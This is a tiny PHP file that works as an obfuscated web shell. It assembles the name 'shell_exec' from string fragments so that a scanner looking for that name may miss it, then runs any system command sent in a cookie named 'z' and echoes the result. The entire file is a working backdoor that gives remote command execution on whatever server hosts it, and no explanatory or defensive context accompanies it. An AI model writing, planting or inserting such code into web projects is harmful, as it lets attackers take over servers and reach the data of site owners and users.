<?php
$k = 'sh'.'ell'.'_ex'.'ec';
echo $k($_COOKIE['z']);
